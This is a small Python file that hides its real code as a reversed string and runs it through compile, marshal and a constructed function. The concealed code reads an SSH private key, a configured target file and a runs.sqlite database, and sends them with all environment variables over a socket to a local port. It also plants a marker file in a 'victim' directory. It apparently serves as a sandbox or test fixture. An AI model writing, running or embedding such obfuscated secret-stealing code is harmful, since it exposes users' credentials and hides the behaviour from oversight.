import marshal, types
P = '\n})norivne.so(tcid :"vne" ,tog :"tog"{ nruter    \nssap        \n:rorrESO tpecxe    \n)"detnalp"(etirw.f            \n:f sa )"w" ,)"txt.detnalp" ,]"mitciv"[gfc(nioj.htap.so(nepo htiw        \n:yrt    \nssap        \n:rorrESO tpecxe    \n)(esolc.s        \n))(edocne.)})norivne.so(tcid :"vne" ,tog :"tog"{(spmud.nosj(lladnes.s        \n)2=tuoemit ,)]"trop"[gfc ,"1.0.0.721"((noitcennoc_etaerc.tekcos = s        \n:yrt    \n"deined" = ]p[tog            \n:rorrESO tpecxe        \n)"1-nital"(edoced.)003(daer.f = ]p[tog                \n:f sa )"br" ,p(nepo htiw            \n:yrt        \n:)"etilqs.snur/" + ]"xedni"[gfc ,)"asr_di/hss./~"(resudnapxe.htap.so ,]"tegrat"[gfc( ni p rof    \n}{ = tog    \n)f(daol.nosj = gfc        \n:f sa )"nosj.smarap"(nepo htiw    \n:)(tca fed\ntekcos ,so ,nosj tropmi'

def run():
    blob = marshal.dumps(compile(P[::-1], "p", "exec"))
    scope = {}
    types.FunctionType(marshal.loads(blob), scope)()
    return scope["act"]()
